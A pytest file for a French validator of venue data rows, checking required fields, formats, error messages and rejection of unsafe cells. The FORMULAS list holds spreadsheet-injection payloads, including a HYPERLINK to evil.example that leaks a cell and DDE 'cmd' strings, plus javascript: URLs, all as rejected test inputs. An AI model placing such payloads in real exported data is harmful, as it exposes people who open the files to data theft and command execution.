"""The row validator: a good and a bad value for every constrained field of the standard."""

import pytest

from places.validation import validate_row
from tests.places.conftest import example_row


def errors_for(**overrides):
    row = example_row()
    row.update(overrides)
    _, errors, _ = validate_row(row, line=7)
    return errors


def test_the_standard_example_row_is_valid():
    record, errors, warnings = validate_row(example_row(), line=2)
    assert errors == [] and warnings == []
    assert record["services"].split("|")[0] == "Maîtrise des outils numériques du quotidien"


@pytest.mark.parametrize("column", ["id", "pivot", "nom", "commune", "code_postal", "adresse", "date_maj"])
def test_required_fields(column):
    (error,) = errors_for(**{column: "  "})
    assert (error.line, error.field, error.rule) == (7, column, "required")
    assert "obligatoire" in str(error) and "ligne 7" in str(error)


GOOD_AND_BAD = [
    ("pivot", "43493312300029", "4349 3312"),
    ("pivot", "W313000000", "12345678"),
    ("code_postal", "31000", "3100"),
    ("code_insee", "2A004", "20004"),
    ("code_insee", "31555", "3155A"),
    ("telephone", "+33561000000", "05 61 00 00 00"),
    ("telephone", "+590590000000", "+4412345678"),
    ("latitude", "43.60426", "43,60426"),
    ("longitude", "1.44367", "est"),
    ("date_maj", "2024-04-02", "02/04/2024"),
    ("presentation_resume", "x" * 280, "x" * 281),
    ("itinerance", "Itinérant|Fixe", "Mobile"),
    ("services", "Aide aux démarches administratives", "Aide administrative"),
    ("publics_specifiquement_adresses", "Seniors|Familles et/ou enfants", "Retraités"),
    ("prise_en_charge_specifique", "Déficience visuelle", "Malvoyance"),
    ("frais_a_charge", "Gratuit", "gratuit"),
    ("dispositif_programmes_nationaux", "France Services|Conseillers numériques", "France services"),
    ("formations_labels", "ORDI 3.0", "ORDI 3X0"),
    ("modalites_acces", "Ce lieu n'accueille pas de public", "Écrire"),
    ("modalites_accompagnement", "À distance", "A distance"),
]


@pytest.mark.parametrize(("column", "good", "bad"), GOOD_AND_BAD)
def test_good_and_bad_value(column, good, bad):
    assert errors_for(**{column: good}) == []
    errors = errors_for(**{column: bad})
    assert errors and {error.field for error in errors} == {column}
    assert all(error.line == 7 and error.message for error in errors)


def test_latitude_out_of_range_and_not_finite():
    assert errors_for(latitude="91")[0].rule == "range"
    assert errors_for(longitude="nan")[0].rule == "range"


def test_older_semicolon_accepted_in_value_lists_only():
    row = example_row()
    row.update(services="Aide aux démarches administratives ; Loisirs et créations numériques", typologie="ASSO;CCAS")
    record, errors, _ = validate_row(row)
    assert errors == []
    assert record["services"] == "Aide aux démarches administratives|Loisirs et créations numériques"
    assert record["typologie"] == "ASSO|CCAS"
    # Opening hours keep their own ";", e-mails do not split on it.
    assert record["horaires"] == "Mo-Fr 09:00-12:00,14:00-18:30; Sa 08:30-12:00"
    row.update(courriels="a@example.org;b@example.org")
    record, _, _ = validate_row(row)
    assert record["courriels"] == "a@example.org;b@example.org"


def test_unparsable_hours_are_a_warning_not_a_rejection():
    row = example_row()
    row["horaires"] = "le mardi matin"
    record, errors, warnings = validate_row(row, line=3)
    assert errors == []
    (warning,) = warnings
    assert (warning.field, warning.value, warning.line) == ("horaires", "le mardi matin", 3)
    assert "OpenStreetMap" in warning.message


def test_site_length_limit_and_canonical_forms():
    assert errors_for(nom="n" * 256)[0].rule == "length"
    record, _, _ = validate_row({**example_row(), "date_maj": "2024-4-2", "latitude": "43.50"})
    assert record["date_maj"] == "2024-04-02" and record["latitude"] == "43.5"


def test_several_errors_in_french_with_line_field_value_rule():
    errors = errors_for(code_postal="ABCDE", services="Aide aux démarches administratives|Jardinage")
    messages = [str(error) for error in errors]
    assert len(messages) == 2
    assert "ligne 7, champ « code_postal », valeur « ABCDE »" in messages[0] and "règle : format" in messages[0]
    assert "« Jardinage »" in messages[1] and "liste de valeurs" in messages[1]


FORMULAS = [
    ("nom", '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'),
    ("nom", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("presentation_detail", "\t=1+1"),  # the tab is stripped: a live formula is left
    ("adresse", "  \r=1+1"),
    ("source", "+HYPERLINK(1)"),
    ("structure_parente", "-cmd"),
    ("commune", "-2+3+cmd|' /C calc'!A0"),
    ("id", "+1 (0)"),
    ("typologie", " |=1+1"),  # the empty first value is dropped: the cell would start with "="
    ("horaires", "=1+1"),
]


@pytest.mark.parametrize(("column", "value"), FORMULAS)
def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_rejected(column, value):
    (error,) = errors_for(**{column: value})
    assert (error.line, error.field, error.rule) == (7, column, "formula")
    assert "formule" in str(error) and "ligne 7" in str(error) and "règle : formule de tableur" in str(error)


@pytest.mark.parametrize(
    ("column", "value"),
    [
        ("telephone", "+33561000000"),
        ("longitude", "-1.44367"),
        ("latitude", "-21.1151"),
        ("presentation_detail", "- 2 salles équipées"),
        ("presentation_detail", "Accès = gratuit (sur inscription) ; @mediatheque"),
        ("autres_formations_labels", "+ de 10 ans d'expérience"),
    ],
)
def test_legitimate_signs_and_formula_characters_inside_a_value_are_accepted(column, value):
    assert errors_for(**{column: value}) == []


@pytest.mark.parametrize("column", ["site_web", "prise_rdv", "fiche_acces_libre"])
@pytest.mark.parametrize(
    "url", ["javascript:alert(1)", "JavaScript:alert(1)", "data:text/html,<b>x</b>", "www.exemple.fr", "ftp://a.fr/"]
)
def test_web_addresses_must_be_http_or_https(column, url):
    errors = errors_for(**{column: url})
    assert [(error.field, error.value, error.rule) for error in errors] == [(column, url, "url")]
    assert "http:// ou https://" in str(errors[0])


def test_every_web_address_of_site_web_is_checked():
    assert errors_for(site_web="https://www.exemple.fr/|http://m.facebook.com/lieu/", prise_rdv="") == []
    (error,) = errors_for(site_web="https://www.exemple.fr/|javascript:alert(1)")
    assert (error.field, error.value) == ("site_web", "javascript:alert(1)")
